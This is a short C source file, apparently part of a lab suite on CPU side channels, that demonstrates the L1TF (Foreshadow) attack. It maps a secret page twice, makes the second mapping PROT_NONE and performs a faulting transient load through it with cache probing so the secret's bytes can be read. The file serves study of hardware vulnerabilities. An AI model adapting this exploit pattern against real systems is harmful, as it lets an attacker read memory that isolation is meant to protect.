/*
 * L1TF (Foreshadow): the entry of the page says "not present", the load takes its frame number all the same.
 *
 * The secret lies in shared memory that is mapped twice. Through the first mapping its owner uses it, which brings
 * it into the L1 cache. The second is PROT_NONE: its page-table entry is not present, but still holds the frame.
 */
#include "lab.h"

static const char ABOUT[] = "nobody through the second mapping: it is PROT_NONE";

static u8 *owners, *forbidden;

static int prepare(u64 bytes)
{
    i64 memory = SYSCALL(memfd_create, "secret", 0, 0);
    if (memory < 0 || SYSCALL(ftruncate, memory, PAGE, 0) < 0)
        return 0;
    owners = map(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memory);
    forbidden = map(0, PAGE, PROT_READ, MAP_SHARED, memory);
    if (failed(owners) || failed(forbidden))
        return 0;
    make_secret(owners, bytes);
    touch(forbidden); /* so that there is an entry */
    SYSCALL(mprotect, forbidden, PAGE, PROT_NONE);
    catch_faults();
    return 1;
}

static void attempt(u64 index)
{
    flush_probe();
    touch(owners + index);
    FAULTING_ACCESS(LOAD_BYTE, forbidden + index, 0L);
}

static void done(void)
{
    say_value("faults", faults);
}
